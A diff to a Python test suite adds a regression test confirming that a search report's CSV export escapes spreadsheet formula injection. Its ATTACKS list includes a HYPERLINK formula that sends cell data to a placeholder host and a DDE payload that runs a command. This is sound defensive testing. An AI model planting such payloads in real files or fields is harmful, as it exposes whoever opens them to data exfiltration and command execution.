@@ -8,6 +8,7 @@ kmsearch.engine.thai.normalize, with the Thai strings the report was made from.
 from __future__ import annotations
 
 import csv
+import dataclasses
 import io
 import unicodedata
 from datetime import date
@@ -232,6 +233,41 @@ def test_csv_opens_in_excel_and_parses_back(the_report):
     assert ["คำค้นไม่พบผล (ประชาชน)", "", "ภาษีป้าย", "3"] == [
         r for r in rows if r[0].startswith("คำค้น")
     ][0][:4]
+
+
+ATTACKS = [
+    '=HYPERLINK("http://x.example/?"&A1,"ดู")',
+    "@cmd",
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "\t=1+1",
+    "\r=1+1",
+    "  =1+1",
+    "\uff1dSUM(A1)",
+]
+
+
+def test_csv_cells_never_start_a_formula(results):
+    # Issue 12 item 14: citizens' zero-result queries were written verbatim, so a query typed
+    # as =HYPERLINK(...) or @cmd became a live formula when the committee opened the CSV.
+    zero = {"public": [(q, 1) for q in ATTACKS], "staff": [("ภาษีป้าย", 2)]}
+    health = dataclasses.replace(results.health, zero_results=zero)
+    doc = report.Report(dataclasses.replace(results, health=health),
+                        recommendations="=1+1 ข้อเสนอ")  # fmt: skip
+    rows = list(csv.reader(io.StringIO(report.render_csv(doc).lstrip("\ufeff"))))
+    queries = [r[2] for r in rows if r[0] == "คำค้นไม่พบผล (ประชาชน)"]
+    assert queries == ["'" + q for q in ATTACKS]  # shown literally, nothing lost
+    for row in rows:
+        for cell in row:
+            assert not cell.lstrip(" ").startswith(("=", "+", "@", "\t", "\r", "\uff1d")), row
+            assert not cell.startswith("-") or cell == "-" or cell.lstrip("-").isdigit(), row
+    assert ["ข้อเสนอแนะ", "", "'=1+1 ข้อเสนอ"] == [r for r in rows if r[0] == "ข้อเสนอแนะ"][0][:3]
+    # Ordinary cells are untouched: numbers, the "-" of nobody to count, Thai text.
+    assert report.formula_safe("-") == "-" and report.formula_safe("71.43") == "71.43"
+    assert report.formula_safe("ภาษีป้าย") == "ภาษีป้าย"
+    # HTML escapes the same text (a browser shows it, runs nothing); PDF draws it as text.
+    page = report.render_html(doc)
+    assert "=HYPERLINK(&quot;http://x.example/?&quot;&amp;A1,&quot;ดู&quot;)" in page
 
 
 def test_render_refuses_unknown_format(the_report):
